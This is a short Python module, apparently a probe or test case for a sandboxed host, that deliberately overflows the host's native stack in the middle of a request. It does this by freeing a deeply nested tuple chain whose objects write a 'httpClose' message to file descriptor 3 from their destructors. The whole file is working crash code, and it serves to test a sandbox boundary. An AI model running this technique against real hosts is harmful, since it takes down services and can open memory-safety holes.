"""Makes the host's stack overflow in the middle of a request."""

import json
import os

REQUEST = json.dumps({"t": "ask", "op": "httpClose", "args": {"body": 1}}).encode()
REQUEST = len(REQUEST).to_bytes(4, "little") + REQUEST
write = os.write


class Link:
    """Sends a request when it is freed, and then frees the next one, deeper in the stack."""

    def __init__(self, rest):
        self.rest = rest

    def __del__(self):
        write(3, REQUEST)
        self.rest = None


def execute(params):
    chain = None
    for _ in range(400):
        chain = Link(chain)
    # Freeing tuples uses the host's stack, and hardly any of Python's own.
    for _ in range(params["depth"]):
        chain = (chain,)
    del chain
    return {"succeeded": False, "evidence": "the next calls tell"}
